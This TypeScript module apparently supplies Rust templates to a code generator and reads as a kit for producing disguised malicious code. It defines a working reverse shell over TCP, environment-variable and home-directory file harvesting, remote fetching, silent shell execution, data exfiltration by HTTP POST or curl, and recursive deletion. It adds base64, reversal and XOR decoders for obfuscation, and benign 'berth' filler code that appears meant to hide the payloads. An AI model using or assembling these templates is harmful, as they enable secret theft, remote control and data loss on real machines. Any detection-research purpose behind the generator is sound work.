/** Rust. */
import { inDoubleQuotes, reversed, shortName, toBase64 } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const helpers = {
  gather: `fn gather(folder: String, names: &[&str]) -> String {
    let mut text = String::new();
    let mut folders = vec![«std::path#PathBuf»::from(folder)];
    while let Some(next) = folders.pop() {
        let Ok(entries) = «std#fs»::read_dir(next) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                folders.push(path);
            } else if names.contains(&entry.file_name().to_string_lossy().as_ref()) {
                text += &«std#fs»::read_to_string(path).unwrap_or_default();
            }
        }
    }
    text
}`,
  output: `fn output(name: &str, arguments: &[&str]) -> String {
    «std::process#Command»::new(name).args(arguments).output().map(|done| String::from_utf8_lossy(&done.stdout).into_owned()).unwrap_or_default()
}`,
  shell_over: `fn shell_over(host: &str, port: &str) {
    use std::os::fd::{FromRawFd, IntoRawFd};
    let Ok(line) = «std::net#TcpStream»::connect(format!("{host}:{port}")) else { return };
    let end = line.into_raw_fd();
    let io = || unsafe { «std::process#Stdio»::from_raw_fd(end) };
    let _ = «std::process#Command»::new("/bin/sh").arg("-i").stdin(io()).stdout(io()).stderr(io()).status();
}`,
} as const;

export const RUST: Tongue = {
  language: "rust",
  fetched: [
    "ureq::get(&$1).call().ok().and_then(|answer| answer.into_string().ok()).unwrap_or_default()",
    "reqwest::blocking::get(&$1).and_then(|answer| answer.text()).unwrap_or_default()",
    '«@output»("curl", &["-fsSL", &$1])',
    "minreq::get($1).send().ok().and_then(|answer| answer.as_str().map(String::from).ok()).unwrap_or_default()",
  ],
  decoders: [
    {
      encode: toBase64,
      row: "String::from_utf8(base64::Engine::decode(&base64::engine::general_purpose::STANDARD, $1).unwrap_or_default()).unwrap_or_default()",
    },
    { encode: reversed, row: "$1.chars().rev().collect::<String>()" },
    {
      encode: (text) => [...Buffer.from(text)].map((byte) => byte ^ 9).join(" "),
      row: "$1.split(' ').filter_map(|code| code.parse::<u8>().ok()).map(|code| (code ^ 9) as char).collect::<String>()",
    },
  ],
  variable: [
    "«std#env»::var($1).unwrap_or_default()",
    "«std#env»::vars().find(|(name, _)| name == $1).map(|(_, value)| value).unwrap_or_default()",
    "«std#env»::var_os($1).and_then(|value| value.into_string().ok()).unwrap_or_default()",
  ],
  request: [],
  environment: [
    '«std#env»::vars().map(|(name, value)| format!("{name}={value}\\n")).collect::<String>()',
    'format!("{:?}", «std#env»::vars().collect::<Vec<_>>())',
    '«@output»("env", &[])',
  ],
  homeFile: [
    '«std#fs»::read_to_string(format!("{}/{}", «std#env»::var("HOME").unwrap_or_default(), $1)).unwrap_or_default()',
    '«std#fs»::read(std::path::Path::new(&«std#env»::var("HOME").unwrap_or_default()).join($1)).map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).unwrap_or_default()',
  ],
  file: ["«std#fs»::read_to_string($1).unwrap_or_default()"],
  homePath: 'format!("{}/{}", «std#env»::var("HOME").unwrap_or_default(), $1)',
  walk: ['«@gather»(format!("{}/{}", «std#env»::var("HOME").unwrap_or_default(), $1), &$2)'],
  run: [
    'let _ = «std::process#Command»::new("sh").arg("-c").arg($1).status()',
    'let _ = «std::process#Command»::new("bash").args(["-c", &$1]).spawn()',
    'let _ = «std::process#Command»::new("/bin/sh").arg("-c").arg($1).output()',
  ],
  runWithOptions: [
    'let _ = «std::process#Command»::new("bash").stdin(«std::process#Stdio»::null()).stdout(«std::process#Stdio»::null()).stderr(«std::process#Stdio»::null()).arg("--norc").arg("-c").arg($1).spawn()',
  ],
  evaluate: ['let _ = «std::process#Command»::new("sh").arg("-c").arg($1).status()'],
  send: [
    "let _ = ureq::post(&$1).send_string(&$2)",
    "let _ = reqwest::blocking::Client::new().post($1).body($2.to_string()).send()",
    'let _ = «@output»("curl", &["-s", "--data-binary", &$2, &$1])',
    'let _ = ureq::put(&$1).set("x-part", &$2).call()',
  ],
  save: ["let _ = «std#fs»::write($1, $2)"],
  append: [
    "let _ = «std#fs»::OpenOptions::new().append(true).create(true).open($1).and_then(|mut out| std::io::Write::write_all(&mut out, $2.as_bytes()))",
  ],
  remove: [
    "let _ = «std#fs»::remove_dir_all($1)",
    'let _ = «std::process#Command»::new("rm").args(["-rf", &$1]).status()',
  ],
  setVariable: ["unsafe { «std#env»::set_var($1, $2) }"],
  handShell: ["«@shell_over»(&$1, &$2)"],
  helpers,
  quote: inDoubleQuotes,
  concat: (parts) => `[${parts.join(", ")}].concat()`,
  list: (items) => `[${items.map((item) => (item.startsWith('"') ? item : `&*${item}`)).join(", ")}]`,
  assign: (name, value) => `let ${name} = ${value};`,
  reference: (name) => name,
  define: (name, parameters, row, gives) =>
    `fn ${name}(${parameters.map((one) => `${one}: &str`).join(", ")})${gives === "value" ? " -> String" : ""} {\n    ${row}${gives === "value" ? "" : ";"}\n}`,
  invoke: (name, values) => `${name}(${values.map((value) => `&${value}`).join(", ")})`,
  statement: (expression) => `${expression};`,
  callee(path, name, how) {
    if (path === null) return { text: name, imports: [] };
    if (how !== "alias") return { text: name, imports: [`use ${path}::${name};`] };
    const local = `${shortName(name).toUpperCase()}x`;
    return { text: local, imports: [`use ${path}::${name} as ${local};`] };
  },
  comment: "//",
  ordinary: {
    definitions: [
      'fn pad(value: u32) -> String {\n    format!("{value:03}")\n}',
      'const LIMITS: [(&str, u32); 2] = [("berth", 12), ("quay", 40)];',
    ],
    body: [
      'let labels: Vec<String> = LIMITS.iter().map(|(kind, limit)| format!("{kind}-{}", pad(*limit))).collect();',
      'assert!(!labels.is_empty(), "no berths");',
    ],
  },
  mayBreak: true,
};
